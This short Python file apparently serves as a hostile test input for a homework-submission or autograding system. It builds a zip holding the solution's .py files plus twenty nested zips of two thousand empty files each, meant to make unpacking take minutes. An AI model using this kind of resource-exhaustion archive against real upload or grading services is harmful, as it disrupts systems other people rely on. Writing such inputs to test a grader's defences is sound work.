"""submission
attack: twenty zips in the zip, each with two thousand files, so that taking it in takes minutes
"""

import io
import zipfile


def make(folder, solution):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for number in range(2_000):
            archive.writestr(f"{number}.txt", "")
    path = folder / "homework.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for file in solution.glob("*.py"):
            archive.write(file, file.name)
        for number in range(20):
            archive.writestr(f"{number}.zip", packed.getvalue())
    return path
